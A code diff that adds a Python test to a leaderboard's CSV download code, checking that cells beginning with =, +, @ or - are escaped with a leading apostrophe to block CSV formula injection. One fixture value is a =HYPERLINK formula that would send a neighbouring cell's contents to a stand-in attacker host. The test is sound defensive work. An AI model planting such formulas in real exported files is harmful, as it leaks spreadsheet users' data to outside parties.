@@ -69,3 +69,15 @@ def test_the_samples_download_is_capped(board_db: Path) -> None:
     assert few.capped and len(few.frame) == 5 and few.total == every.total == len(every.frame)
     pd.testing.assert_frame_equal(few.frame, every.frame.head(5))
     assert downloads.deferred(downloads.csv_bytes, lambda: few.frame)().count(b"\n") == 6
+
+
+def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_shown_as_text() -> None:
+    """A submitter named ``=HYPERLINK(...)`` (CSV injection): every such text cell gets a leading
+    apostrophe, read back by a CSV reader as the text it was with that mark; numbers stay numbers."""
+    attack = '=HYPERLINK("https://evil.example/?leak="&B2,"verified")'
+    shown = pd.DataFrame(
+        {"submission": [attack, "+1 group", "@sum", "-x", "honest"], "delta": [-0.5, 0.1, 0.0, -1.0, 2.0]}
+    )
+    read = pd.read_csv(io.BytesIO(downloads.csv_bytes(shown)))
+    assert list(read["submission"]) == ["'" + attack, "'+1 group", "'@sum", "'-x", "honest"]
+    assert list(read["delta"]) == [-0.5, 0.1, 0.0, -1.0, 2.0]
